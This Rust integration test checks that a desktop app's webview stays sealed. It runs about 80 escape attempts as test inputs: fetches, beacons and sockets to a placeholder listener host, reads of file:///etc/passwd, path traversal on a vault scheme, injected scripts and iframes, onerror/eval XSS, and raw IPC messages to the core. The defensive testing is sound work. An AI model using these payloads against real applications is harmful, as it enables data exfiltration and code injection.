//! Where the window may go: nowhere. A page gone wrong tries every way out of the program that a page has (navigation, new
//! windows, frames, forms, requests, workers, keys, dropped addresses); none leads out, and the page stays where it is.
//!
//! Against the real policy, capabilities and handlers. A machine next door listens for whatever gets through.

use serde_json::{Value, json};

use crate::harness::dragging::hold_over;
use crate::harness::driver::{Display, Window};
use crate::harness::home::Home;
use crate::harness::listener::Listener;
use crate::harness::plain::binder_on_shelf;
use crate::harness::story::{self, PERSON};

/// The policy of the page, as it arrives there. `*` stands for what is made anew: the scheme of the frame between page and
/// core by every start, the hashes of scripts by every build. The window system adds both; beside the frame, `'none'` says no
/// more, and the frame is all that is left.
const POLICY: [&str; 11] = [
    "base-uri 'none'",
    "connect-src 'self' ipc: http://ipc.localhost vault: http://vault.localhost",
    "default-src 'none' isolation-*",
    "font-src 'self'",
    "form-action 'none'",
    "img-src 'self' vault: http://vault.localhost",
    "require-trusted-types-for 'script'",
    "script-src 'self' 'sha256-*'",
    "style-src 'self' 'sha256-YEercZJImS+vUX2bz7vkQ0aA4rtBIPLuCEWz+yraQ/g='",
    "trusted-types svelte-trusted-html pdf-worker",
    "worker-src 'self'",
];

/// Ways out, each a script; `URL` is the machine next door, `make` an element in the page.
const WAYS: &[&str] = &[
    // The page itself goes elsewhere.
    "location.href = 'http://URL/href'",
    "location.assign('file:///etc/passwd')",
    "location.replace('data:text/html,<h1>elsewhere</h1>')",
    "location.href = 'javascript:window.ran = true'",
    "location.href = 'about:blank'",
    "location.href = 'vault://localhost/document/1'",
    "location.href = URL.createObjectURL(new Blob(['<h1>elsewhere</h1>'], { type: 'text/html' }))",
    "location.href = 'mailto:nobody@example.org'",
    "location.href = 'tauri://example.org/'",
    "location.host = 'example.org'",
    "document.location = 'http://URL/document'",
    "history.pushState(null, '', 'http://URL/pushed')",
    "document.domain = 'example.org'",
    "make('meta', { httpEquiv: 'refresh', content: '0; url=http://URL/refresh' }, document.head)",
    "make('base', { href: 'http://URL/' }, document.head); make('a', { href: 'under-base' }).click()",
    // A second window.
    "window.open('http://URL/opened')",
    "window.open('file:///etc/passwd', '_blank')",
    "window.open('about:blank')",
    "window.open('index.html')",
    "make('a', { href: 'elsewhere' }).click()",
    // Links and forms.
    "make('a', { href: 'http://URL/link' }).click()",
    "make('a', { href: 'http://URL/link-blank', target: '_blank' }).click()",
    "make('a', { href: 'file:///etc/passwd', target: '_top' }).click()",
    "make('a', { href: 'http://URL/download', download: 'file' }).click()",
    "make('a', { href: URL.createObjectURL(new Blob(['kept'])), download: 'kept.txt' }).click()",
    "make('a', { href: 'http://URL/middle', ping: 'http://URL/ping' }).dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true }))",
    "make('form', { action: 'http://URL/form' }).submit()",
    "make('form', { action: 'http://URL/form-blank', target: '_blank', method: 'post' }).submit()",
    "make('form', { action: 'file:///etc/passwd' }).requestSubmit()",
    // Something foreign inside.
    "make('iframe', { src: 'http://URL/frame' })",
    "make('iframe', { src: 'file:///etc/passwd' })",
    "make('iframe', { src: 'data:text/html,<script>top.ran = true</script>' })",
    "make('iframe', { src: 'javascript:top.ran = true' })",
    "make('iframe', { srcdoc: '<script>top.ran = true</script>' })",
    "make('object', { data: 'http://URL/object' })",
    "make('embed', { src: 'http://URL/embed' })",
    "make('img', { src: 'http://URL/picture' })",
    "make('img', { src: 'file:///etc/hostname' })",
    "make('img', { srcset: 'http://URL/set 2x' })",
    "make('video', { src: 'http://URL/video' }).load()",
    "make('audio', { src: 'http://URL/sound' }).play()",
    "make('div').style.backgroundImage = 'url(http://URL/background)'",
    "make('div').style.cursor = 'url(http://URL/cursor), auto'",
    "make('style').textContent = '@import \"http://URL/import\"; body { background: url(http://URL/style) }'",
    "make('link', { rel: 'stylesheet', href: 'http://URL/sheet' }, document.head)",
    "make('link', { rel: 'prefetch', href: 'http://URL/prefetch' }, document.head)",
    "make('link', { rel: 'preload', as: 'image', href: 'http://URL/preload' }, document.head)",
    "make('link', { rel: 'preconnect', href: 'http://URL' }, document.head)",
    "make('link', { rel: 'icon', href: 'http://URL/icon' }, document.head)",
    "make('link', { rel: 'manifest', href: 'http://URL/manifest' }, document.head)",
    "make('script', { src: 'http://URL/script' }, document.head)",
    "make('script', { textContent: 'window.ran = true' }, document.head)",
    "document.write('<h1>elsewhere</h1>')",
    "document.body.innerHTML = '<h1>elsewhere</h1>'",
    "new FontFace('far', 'url(http://URL/font)').load()",
    // Requests.
    "fetch('http://URL/fetch')",
    "fetch('http://URL/blind', { mode: 'no-cors' })",
    "fetch('file:///etc/passwd')",
    "fetch('ipc://localhost/binder', { method: 'POST', body: '{}' }).then((got) => { if (got.ok) window.ran = 'ipc' })",
    "fetch('vault://localhost/../settings.json').then((got) => { if (got.ok) window.ran = 'vault' })",
    "{ const asked = new XMLHttpRequest(); asked.open('GET', 'http://URL/xhr'); asked.send() }",
    "{ const asked = new XMLHttpRequest(); asked.open('GET', 'file:///etc/passwd'); asked.onload = () => { window.ran = asked.responseText }; asked.send() }",
    "new WebSocket('ws://URL/socket')",
    "new EventSource('http://URL/events')",
    "navigator.sendBeacon('http://URL/beacon', 'x')",
    "import('http://URL/module')",
    "new Worker('http://URL/worker')",
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://URL/inner\")'])))",
    "new SharedWorker('http://URL/shared')",
    "navigator.serviceWorker.register('http://URL/service')",
    "new RTCPeerConnection({ iceServers: [{ urls: 'stun:URL' }] }).createDataChannel('x')",
    "{ const far = new RTCPeerConnection({ iceServers: [{ urls: 'stun:URL' }] }); far.createDataChannel('x'); far.createOffer().then((offer) => far.setLocalDescription(offer)) }",
    // Text that would run.
    "eval('window.ran = true')",
    "new Function('window.ran = true')()",
    "setTimeout('window.ran = true', 0)",
    "make('img', { src: 'x' }).setAttribute('onerror', 'window.ran = true')",
    "make('div', { innerHTML: '<img src=x onerror=\"window.ran = true\">' })",
    // The door to the core, past the frame that stands before it.
    "window.webkit.messageHandlers.ipc.postMessage('')",
    "window.webkit.messageHandlers.ipc.postMessage(JSON.stringify({ cmd: 'create_sample', callback: 1, error: 2, payload: {}, options: {} }))",
    "window.ipc.postMessage('{}')",
];

/// Keys with which browsers go elsewhere, load anew or open their tools.
const KEYS: [&str; 9] =
    ["F5", "ctrl+r", "ctrl+shift+r", "alt+Left", "ctrl+u", "ctrl+t", "ctrl+n", "F12", "ctrl+shift+i"];

/// Tries one way out: what the page said, `nothing` when it was taken silently.
fn taken(window: &Window, way: &str, address: &str) -> String {
    let way = way.replace("'URL'", &format!("'{address}'")).replace("//URL", &format!("//{address}"));
    let way = way.replace("stun:URL", &format!("stun:{address}"));
    let script = format!(
        "const done = arguments[arguments.length - 1]; \
         const make = (tag, is = {{}}, place = document.body) => {{ \
           const made = Object.assign(document.createElement(tag), is); made.dataset.made = ''; place.append(made); return made; }}; \
         (async () => {{ {way} }})().then(() => 'nothing', (no) => String(no)).then((said) => \
           window.__TAURI_INTERNALS__.invoke('start', {{}}).then(() => done(said), (no) => done('the core is lost: ' + no)))"
    );
    let said = window.script_async(&script);
    let clean = "document.querySelectorAll('[data-made]').forEach((one) => one.remove())";
    window.script(clean).expect("the page is there");
    said.unwrap_or_else(|lost| panic!("{way}: {lost}")).as_str().unwrap_or_default().to_owned()
}

/// Where the page is, and whether it is still the one that was marked.
fn place(window: &Window) -> Value {
    let script = "return [location.href, window.stayed ?? null, window.ran ?? null, document.title, \
        document.querySelector('[data-testid=register]') !== null]";
    window.script(script).expect("a page")
}

#[test]
fn no_way_leads_out_of_the_window() {
    let display = Display::new();
    let home = Home::new();
    let next_door = Listener::new();
    binder_on_shelf(&home, PERSON.passphrase);
    let mut window = Window::open(&home, &display, &[]);
    story::unlock(&window, PERSON.passphrase);
    assert_eq!(policy(&window), POLICY, "the policy is the one that was agreed on");

    // A tip beside the mouse is a window, too, but none that shows a page.
    let windows = || {
        let all =
            display.hands(&["search", "--onlyvisible", "--name", ".", "getwindowgeometry", "--shell", "%@"]);
        let high = all.lines().filter_map(|line| line.strip_prefix("HEIGHT=")?.parse::<u32>().ok());
        high.filter(|high| *high > 150).count()
    };
    assert_eq!(windows(), 1);
    let begin = "window.stayed = 'here'; window.broken = []; \
        addEventListener('securitypolicyviolation', (no) => window.broken.push(no.effectiveDirective))";
    window.script(begin).expect("marked");
    let here = place(&window);
    assert_eq!((&here[1], &here[2], &here[4]), (&json!("here"), &Value::Null, &json!(true)));
    let mut refused = 0;
    for way in WAYS {
        let said = taken(&window, way, &next_door.address);
        refused += usize::from(said != "nothing");
        assert!(!said.starts_with("the core is lost"), "{way}: {said}");
        assert_eq!(place(&window), here, "{way}: {said}");
        assert_eq!(next_door.heard(), Vec::<String>::new(), "{way}: {said}");
    }
    let broken = window.script("return window.broken").expect("violations");
    let broken = broken.as_array().expect("a list").len();
    println!("{} ways out: {refused} refused aloud, {broken} by the policy, none led out", WAYS.len());
    // Control: the ways were tried, and the policy is what stopped most of them.
    assert!(refused >= 15 && broken >= 25, "{refused} refused, {broken} against the policy");
    window.look("stays");

    // Keys of a browser, pressed on the window itself.
    display.hands(&["search", "--onlyvisible", "--name", "MEIN ORDNER", "windowfocus"]);
    for key in KEYS {
        display.hands(&["key", key]);
        assert_eq!(windows(), 1, "{key}");
    }
    // An address and a foreign page, dropped as links are.
    for what in [format!("http://{}/dropped", next_door.address), "file:///etc/hostname".to_owned()] {
        let source = hold_over(&window, &display, &home, &what);
        display.hands(&["mouseup", "1"]);
        drop(source);
    }
    taken(&window, "null", "");
    assert_eq!(place(&window), here);
    assert_eq!(windows(), 1, "no second window");
    assert_eq!(next_door.heard(), Vec::<String>::new());

    // Control: a page that was loaded anew is told from the one that stayed, and the machine next door hears.
    window.script("location.reload()").expect("its own page is allowed");
    window.wait("the mark to be gone", || (place(&window)[1].is_null()).then_some(()));
    std::net::TcpStream::connect(&next_door.address).expect("reached");
    window.wait("it to be heard", || (next_door.heard().len() == 1).then_some(()));
    window.close();
}

/// The parts of the policy that came with the page, in order.
fn policy(window: &Window) -> Vec<String> {
    let script = "const done = arguments[arguments.length - 1]; \
        fetch('/index.html').then((got) => done(got.headers.get('content-security-policy')), (no) => done(String(no)))";
    let policy = window.script_async(script).expect("a policy");
    let agreed = |source: &str| match source {
        frame if frame.starts_with("isolation-") && frame.ends_with("://localhost/") => {
            "isolation-*".to_owned()
        }
        other => other.to_owned(),
    };
    let part = |part: &str| {
        let mut sources: Vec<String> = part.split_whitespace().map(agreed).collect();
        if sources.first().is_some_and(|name| name == "script-src") {
            sources
                .iter_mut()
                .filter(|one| one.starts_with("'sha256-"))
                .for_each(|one| *one = "'sha256-*'".to_owned());
        }
        sources.dedup();
        sources.join(" ")
    };
    let mut parts: Vec<String> = policy.as_str().unwrap_or_default().split(';').map(part).collect();
    parts.retain(|part| !part.is_empty());
    parts.sort();
    parts
}
